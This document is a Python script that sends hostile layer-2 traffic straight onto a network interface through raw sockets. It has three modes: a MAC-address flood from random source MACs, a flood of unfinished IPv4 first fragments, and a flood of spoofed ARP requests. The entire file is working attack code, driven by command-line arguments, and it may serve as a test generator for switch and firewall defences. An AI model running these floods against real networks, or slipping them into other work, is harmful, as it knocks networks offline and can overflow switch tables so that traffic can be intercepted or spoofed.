#!/usr/bin/python3
"""Hostile traffic from a host: frames it writes straight onto its device.

macs DEV DST_MAC N       N frames to DST_MAC, each from a new random source MAC
fragments DEV DST_MAC SRC_IP DST_IP N
                         N first fragments of IPv4 packets whose rest never comes
arp DEV TARGET_IP N      N broadcast ARP requests for TARGET_IP, each from a new
                         random sender MAC and a new sender address in 10.99/16
"""
import os
import random
import socket
import struct
import sys


def ipv4_checksum(header):
    s = sum(struct.unpack("!10H", header))
    while s > 0xFFFF:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def random_mac():
    b = bytearray(os.urandom(6))
    b[0] = (b[0] & 0xFC) | 0x02   # unicast, locally administered
    return bytes(b)


def first_fragment(src, dst, ident):
    payload = os.urandom(64)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x2000, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", ipv4_checksum(header)) + header[12:]
    return header + payload


def arp_request(sender_mac, sender_ip, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, sender_mac, sender_ip, bytes(6),
                       socket.inet_aton(target_ip))


def main():
    kind, dev = sys.argv[1], sys.argv[2]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    if kind == "arp":
        target, n = sys.argv[3], int(sys.argv[4])
        for i in range(n):
            mac = random_mac()
            sender = bytes([10, 99, 1 + (i >> 8) % 250, i & 0xFF])
            s.send(b"\xff" * 6 + mac + b"\x08\x06" + arp_request(mac, sender, target))
        return
    dst = mac_bytes(sys.argv[3])
    if kind == "macs":
        body = b"\x88\xb5" + bytes(46)
        for _ in range(int(sys.argv[4])):
            s.send(dst + random_mac() + body)
    elif kind == "fragments":
        me = random_mac()
        src_ip, dst_ip, n = sys.argv[4], sys.argv[5], int(sys.argv[6])
        for _ in range(n):
            s.send(dst + me + b"\x08\x00" + first_fragment(src_ip, dst_ip, random.randrange(65536)))
    else:
        sys.exit("unknown kind " + kind)


main()
